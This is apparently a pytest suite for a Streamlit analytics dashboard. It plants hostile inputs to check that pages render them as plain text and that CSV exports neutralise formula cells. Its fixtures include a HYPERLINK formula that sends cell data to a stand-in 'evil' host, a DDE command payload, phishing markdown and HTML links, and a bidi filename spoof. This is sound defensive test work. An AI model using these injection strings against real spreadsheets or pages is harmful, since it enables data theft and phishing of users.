"""Untrusted text stays inert: hostile post texts, handles, topics, hashtags, event names and URL filter values
planted in a copy of the small store are shown on every page as plain characters (no live markdown link or image,
no Plotly markup, no zero-width or bidi controls), and no CSV export holds a cell a spreadsheet would run."""
import ast
import csv
import io
import json
import re
import shutil
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
import streamlit.testing.v1.element_tree as et
from markdown_it import MarkdownIt

from analytics import moderation, store
from analytics.access import auth, inert
from analytics.models.registry import model_key
from components import charts, navigation
from components.post_card import escape_md

ROOT = Path(__file__).resolve().parent.parent

FORMULA = '=HYPERLINK("http://evil/?"&A2,"more")'
TOPIC = '<a href="http://evil">click</a>'
BIDI = "\u202Egnp.exe"  # shows as "exe.png"
MD = "see ![x](http://evil/t.png) and [phish](http://evil)"
HIDDEN = "zero\u200bwidth \ufeffhidden \u202Eevil\u202C 中文 👨\u200d👩\u200d👧"
TEXTS = [FORMULA, "+SUM(1,2) now", "-2+3 tickets", "@SUM(A1) lol", "\tindented", "\rcarriage", MD, HIDDEN,
         f"{TOPIC} in a post"]
EVENT = "<b>launch</b> [x](http://evil)"
HANDLES = {"evil_bidi": BIDI, "evil_formula": '=cmd|"/C calc"!A0', "evil_md": "[phish](http://evil)"}
TAGS = ["=1+1", "\u202Etag"]
MOD = auth.User("=mod", "Mod", "moderator")
URL = {"topic": "[phish](http://evil)", "author": "![x](http://evil/t.png)"}

CONTROLS = re.compile("[\u200b\u200e\u200f\u2060\ufeff\u061c\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- the pure functions --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("\u202Egnp.exe", "gnp.exe"),
    ("a\u200bb\u200ec\u200fd\u2060e\ufefff", "abcdef"),
    ("\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee\u2066f\u2067g\u2068h\u2069i\u061Cj", "abcdefghij"),
    ("p\u200dass\u200cword", "password"),  # joiners inside an ASCII word: only there to dodge a search
    ("👨\u200d👩\u200d👧 家人 می\u200cخواهم", "👨\u200d👩\u200d👧 家人 می\u200cخواهم"),  # emoji sequence, Persian ZWNJ
    ("\u200d👍 👍\u200d", "👍 👍"),
    ("中文 ok 😀 #tag @you", "中文 ok 😀 #tag @you"),
    ("", ""),
])
def test_strip_controls(text, expected):
    assert inert.strip_controls(text) == expected


def test_strip_controls_is_linear():
    # The worst case for a joiner rule (hundreds of thousands of joiners) finishes: a backtracking pattern would not.
    text = ("a\u200d" * 200_000) + "👍\u200d" * 100_000
    assert inert.strip_controls(text) == "a" * 200_000 + "👍\u200d" * 99_999 + "👍"


@pytest.mark.parametrize("text, expected", [
    ('<a href="http://evil">click</a>', '&lt;a href="http://evil"&gt;click&lt;/a&gt;'),
    ("AT&T <b>bold</b><br>x", "AT&amp;T &lt;b&gt;bold&lt;/b&gt;&lt;br&gt;x"),
    ("&lt; stays literal", "&amp;lt; stays literal"),
    ("#3 @\u202Egnp.exe 中文 😀", "#3 @gnp.exe 中文 😀"),
    (None, "None"),
    (12, "12"),
])
def test_plain_label(text, expected):
    assert inert.plain_label(text) == expected


def test_csv_safe_prefixes_formula_cells_and_leaves_numbers():
    df = pd.DataFrame({"text": ["=1+1", "+2", "-3", "@user hi", "\tx", "\ry", "ok", " =sp", "'=q", None],
                       "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10], "x": [-1.5] * 10,
                       "=col": pd.Series(["-a"] * 9 + [None], dtype="string")})
    out = inert.csv_safe(df)
    assert out.astype(object).where(out.notna(), None).to_dict("list") == {
        "text": ["'=1+1", "'+2", "'-3", "'@user hi", "'\tx", "'\ry", "ok", " =sp", "'=q", None],
        "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10], "x": [-1.5] * 10,
        "'=col": ["'-a"] * 9 + [None]}
    assert list(out.dtypes.astype(str)) == list(df.dtypes.astype(str)), "numbers stay numbers"
    assert df["text"][0] == "=1+1", "the input is not modified"
    assert inert.csv_cell(-3) == -3 and inert.csv_cell("-3") == "'-3"


def test_display_frame_strips_controls_from_text_and_lists():
    df = pd.DataFrame({"handle": [BIDI, "ann"], "tags": [["\u202Etag", "x"], ["y"]], "likes": [1, 2]})
    out = inert.display_frame(df)
    assert out.to_dict("list") == {"handle": ["gnp.exe", "ann"], "tags": [["tag", "x"], ["y"]], "likes": [1, 2]}


def test_every_chart_label_from_data_is_plain():
    day = pd.Timestamp("2026-01-01")
    vol = pd.DataFrame({"day": [day, day], "topic": [TOPIC, "ok"], "posts": [3, 1]})
    spikes = pd.DataFrame({"day": [day], "topic": [TOPIC], "posts": [3], "baseline": [0.5], "z": [5.0]})
    events = pd.DataFrame({"name": [EVENT], "starts_at": [day], "ends_at": [day + timedelta(days=1)]})
    label = inert.plain_label(TOPIC)
    d = charts.volume_chart(vol, events, spikes).to_dict()
    assert [t["name"] for t in d["data"]] == [label, "ok", "volume spike"]
    assert d["data"][0]["customdata"] == [TOPIC], "the drill-down filters on the raw topic"
    assert d["data"][2]["hovertext"] == [f"{label}: 3 posts vs baseline 0.5 (z 5.0)"]
    assert d["layout"]["annotations"][0]["text"] == "&lt;b&gt;launch&lt;/b&gt; [x](http://evil)"
    assert charts.topic_bar(pd.DataFrame({"topic": [TOPIC], "posts": [3]})).to_dict()["data"][0]["y"] == [label]
    d = charts.topic_share_chart(vol).to_dict()
    assert [t["name"] for t in d["data"]] == [label, "ok"] and d["data"][0]["customdata"] == [TOPIC]
    sent = pd.DataFrame({"bucket": [day], "topic": [TOPIC], "net": [0.5], "scored": [4]})
    d = charts.topic_sentiment_chart(sent, [TOPIC]).to_dict()
    assert [a["text"] for a in d["layout"]["annotations"]] == [label] and d["data"][0]["name"] == label
    d = charts.comparison_bars(pd.DataFrame({"topic": [TOPIC], "net": [0.1], "prev_net": [0.2]}), "net", "n").to_dict()
    assert [t["y"] for t in d["data"]] == [[label], [label]]
    items = pd.DataFrame({"rank": [1], "handle": [BIDI + "<b>"], "semantic": [0.5]})
    d = charts.score_components_chart(items, ("semantic",)).to_dict()
    assert d["data"][0]["y"] == ["#1 @gnp.exe&lt;b&gt;"]


# --- every page and export on a store with hostile data ------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_db(scored_small, tmp_path_factory) -> Path:
    """The toxicity-scored small store plus hostile users, posts (flagged, reported, one removed with a hostile
    note by a moderator with a hostile name), hashtags, a topic with a volume spike and a simulated event."""
    db = Path(shutil.copy(scored_small, tmp_path_factory.mktemp("inert") / "hostile.duckdb"))
    con = store.connect(db)
    try:
        end = con.execute("SELECT max(created_at) FROM posts").fetchall()[0][0]
        others = [r[0] for r in con.execute("SELECT user_id FROM users ORDER BY user_id LIMIT 60").fetchall()]
        next_id = con.execute("SELECT coalesce(max(interaction_id), 0) + 1 FROM interactions").fetchall()[0][0]
        store.upsert(con, "users", pd.DataFrame({"user_id": list(HANDLES), "handle": list(HANDLES.values()),
                                                 "community": TOPIC, "source": "test"}))
        # The bidi handle is the most followed user: the feed page picks it as its first reader.
        store.upsert(con, "follows", pd.DataFrame({"follower_id": others, "followee_id": "evil_bidi"}))
        # One post a day for two weeks, then a burst on the last day: a volume spike of the hostile topic.
        times = [end - timedelta(days=d) for d in range(14, 0, -1)] + [end - timedelta(minutes=m) for m in range(31)]
        ids = [f"evil{i}" for i in range(len(times))]
        store.upsert(con, "posts", pd.DataFrame({
            "post_id": ids, "author_id": [list(HANDLES)[i % 3] for i in range(len(ids))], "created_at": times,
            "text": [TEXTS[i % len(TEXTS)] for i in range(len(ids))], "lang": "en", "hashtags": [TAGS] * len(ids),
            "topic": TOPIC, "source": "test"}))
        store.upsert(con, "topics", pd.DataFrame({"topic": [TOPIC], "terms": [["click", "=1+1"]], "n_posts": [45]}))
        store.upsert(con, "sim_events", pd.DataFrame({
            "event_id": ["evil_event"], "name": [EVENT], "kind": ["test"], "topic": [TOPIC],
            "starts_at": [end - timedelta(days=2)], "ends_at": [end], "n_posts": [31]}))
        model_id, version = model_key("toxicity")
        scores = {label: 0.0 for label in moderation.LABELS} | {"toxic": 0.99}
        store.upsert(con, "model_scores", pd.DataFrame({
            "post_id": ids, "model_id": model_id, "model_version": version, "label": "toxic", "score": 0.99,
            "scores": json.dumps(scores), "scored_at": end}))
        reports = [(pid, u) for pid in ids[-10:] for u in others[:12]]
        store.upsert(con, "interactions", pd.DataFrame({
            "interaction_id": range(next_id, next_id + len(reports)), "user_id": [u for _, u in reports],
            "post_id": [p for p, _ in reports], "kind": "report", "ts": end}))
        moderation.decide(con, MOD, ids[-1], "remove", "harassment", FORMULA, seen=None)
    finally:
        con.close()
    return db


def _elements(at) -> dict[str, list]:
    """What a page shows, by how it is rendered: markdown sources, plain strings, tables, Plotly figures."""
    shown = {"markdown": [], "plain": [], "tables": [], "figures": []}
    for node in at._tree:
        if isinstance(node, (et.Markdown, et.AlertBase, et.HeadingBase, et.Toast)):
            shown["markdown"].append(node.value)
        elif isinstance(node, et.Metric):
            shown["markdown"] += [node.label, node.value, node.delta]
        elif isinstance(node, (et.Text, et.Code)):
            shown["plain"].append(node.value)
        elif isinstance(node, et.Dataframe):
            shown["tables"].append(node.value)
        elif getattr(node, "type", None) == "plotly_chart":
            shown["figures"].append(json.loads(node.proto.spec))
        if isinstance(node, (et.Widget, et.Expander, et.Tab)) and getattr(node, "label", None):
            shown["markdown"].append(node.label)  # widget, expander and tab labels are markdown
        if isinstance(node, et.Radio):
            shown["markdown"] += [str(o) for o in node.options]  # radio options too
        elif isinstance(node, (et.Selectbox, et.Multiselect)):
            shown["plain"] += [str(o) for o in node.options]
    return shown


def _strings(obj, skip: tuple[str, ...] = ("customdata",)):
    """Every string in a figure dict, except under `skip` keys (data the chart carries but never shows)."""
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            if k not in skip:
                yield from _strings(v, skip)
    elif isinstance(obj, list):
        for v in obj:
            yield from _strings(v, skip)


def _table_strings(df: pd.DataFrame):
    yield from (str(c) for c in df.columns)
    for col in df.columns:
        for v in df[col]:
            if isinstance(v, str):
                yield v
            elif isinstance(v, (list, tuple)) or getattr(v, "ndim", 0) == 1:
                yield from (x for x in v if isinstance(x, str))


def _dangerous_cells(data: str | bytes) -> list[str]:
    """Cells of a CSV export that a spreadsheet would run: starting with = + - @ tab or CR and not a number."""
    text = data.decode() if isinstance(data, bytes) else data
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


PAGES = [p.path for p in navigation.PAGES]


@pytest.mark.parametrize("page", PAGES)
def test_every_page_shows_hostile_data_inert(page, hostile_db, tmp_path, use_db, app_run, monkeypatch):
    import streamlit as st

    use_db(Path(shutil.copy(hostile_db, tmp_path / "hostile.duckdb")))
    exports = []
    real = st.download_button
    monkeypatch.setattr(st, "download_button", lambda label, data, *a, **k: exports.append(data) or real(
        label, data, *a, **k))
    # An admin who turned redaction off and exports exact counts sees it all
    at = app_run(page, state={"privacy_redact": False, "privacy_exact": True}, **URL)
    shown = _elements(at)
    md = MarkdownIt("commonmark")
    for source in shown["markdown"]:
        assert "http://evil" not in source, source  # neither a link, an image nor a bare autolink
        html = md.render(source)
        assert "evil" not in " ".join(re.findall(r'(?:href|src)="([^"]*)"', html)), source
        assert "<img" not in html, source
        assert not CONTROLS.search(source), source
    for s in [*shown["plain"], *(s for df in shown["tables"] for s in _table_strings(df))]:
        assert not CONTROLS.search(s), s
    for fig in shown["figures"]:
        for s in _strings(fig):
            assert "<a" not in s.lower() and "<b>" not in s.lower() and not CONTROLS.search(s), s
    assert len(exports) == len(at.get("download_button")), "every download button is one captured export"
    for data in exports:
        assert not _dangerous_cells(data)

    # The hostile data reached the page (the checks above are not vacuous), as literal characters.
    plain = " ".join(shown["plain"])
    markdown = " ".join(shown["markdown"])
    figures = " ".join(s for fig in shown["figures"] for s in _strings(fig))
    csvs = " ".join(d.decode() if isinstance(d, bytes) else d for d in exports)
    if page in ("pages/analyst_overview.py", "pages/analyst_topics.py", "pages/moderator_reports.py"):
        assert escape_md(URL["topic"]) in markdown and escape_md(URL["author"]) in markdown, "the URL notice"
    if page in ("pages/analyst_overview.py", "pages/moderator_reports.py"):
        assert escape_md(TOPIC) in markdown, "topic in a post card, escaped"
    if page in ("pages/analyst_topics.py", "pages/moderator_queue.py"):
        assert any(TOPIC in df["topic"].tolist() for df in shown["tables"] if "topic" in df.columns), "a table cell"
    if page == "pages/analyst_overview.py":
        assert MD in plain and inert.strip_controls(HIDDEN) in plain, "post text as st.text, controls stripped"
        assert "@" + escape_md("gnp.exe") in markdown
        assert inert.plain_label(TOPIC) in figures and "&lt;b&gt;launch&lt;/b&gt;" in figures
        assert "'" + FORMULA.replace('"', '""') in csvs and "'@SUM(A1) lol" in csvs and '"#tag"' in csvs
        assert "'\tindented" in csvs and "'\rcarriage" in csvs and "'-2+3 tickets" in csvs
    if page == "pages/analyst_topics.py":
        assert inert.plain_label(TOPIC) in figures
    if page == "pages/moderator_audit.py":
        assert "'=mod" in csvs and "'" + FORMULA.replace('"', '""') in csvs, "moderator name and note"
    if page == "pages/moderator_quality.py":
        assert "'=mod" in csvs
    if page == "pages/product_feed.py":
        assert any(o.startswith("@gnp.exe · ") for o in shown["plain"]), "the picked reader, controls stripped"

    # The same aggregate tables as private releases (their keys are the same hostile topics, hashtags and terms)
    at.session_state["privacy_exact"] = False
    at.run()
    for key in [b.key for b in at.button if b.key and b.key.endswith("_dp")]:
        at.button(key=key).click().run()
    exports.clear()
    at.run()
    assert not at.exception and len(exports) == len(at.get("download_button"))
    for data in exports:
        assert not _dangerous_cells(data)
    if page == "pages/analyst_topics.py":
        assert '"topic","authors","share"' in " ".join(exports)


def test_redacted_handles_are_neutralised_in_exports(hostile_db, tmp_path, use_db, app_run, monkeypatch):
    """Redaction writes '@user' into post text: those cells start with @ and must be neutralised too."""
    import streamlit as st

    use_db(Path(shutil.copy(hostile_db, tmp_path / "hostile.duckdb")))
    exports = []
    real = st.download_button
    monkeypatch.setattr(st, "download_button", lambda label, data, *a, **k: exports.append(data) or real(
        label, data, *a, **k))
    app_run("pages/analyst_overview.py", state={"privacy_redact": True})
    posts = next(d for d in exports if "'@user(A1) lol" in d)  # was "@SUM(A1) lol" before redaction
    assert not _dangerous_cells(posts)


def test_every_download_goes_through_the_one_export_helper():
    """st.download_button and to_csv appear in app.py, pages/ and components/ only inside components.privacy: every
    export's CSV comes from its _csv, which makes it redacted as the session sees it and csv_safe."""
    found = set()
    for path in sorted([ROOT / "app.py", *ROOT.glob("pages/*.py"), *ROOT.glob("components/*.py")]):
        tree = ast.parse(path.read_text())
        parents = {c: p for p in ast.walk(tree) for c in ast.iter_child_nodes(p)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("download_button", "to_csv"):
                owner = node
                while owner in parents and not isinstance(owner, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    owner = parents[owner]
                found.add((str(path.relative_to(ROOT)), getattr(owner, "name", "<module>"), node.attr))
    assert sorted(found) == [("components/privacy.py", "_csv", "to_csv"),
                             ("components/privacy.py", "_private_download", "download_button"),
                             ("components/privacy.py", "download", "download_button")]
    source = (ROOT / "components/privacy.py").read_text()
    funcs = {n.name: ast.get_source_segment(source, n) for n in ast.walk(ast.parse(source))
             if isinstance(n, ast.FunctionDef)}
    assert "inert.csv_safe(shown(" in funcs["_csv"]
    for name in ("download", "_private_download"):
        assert funcs[name].count("download_button(") == funcs[name].count("_csv(") == 1, name
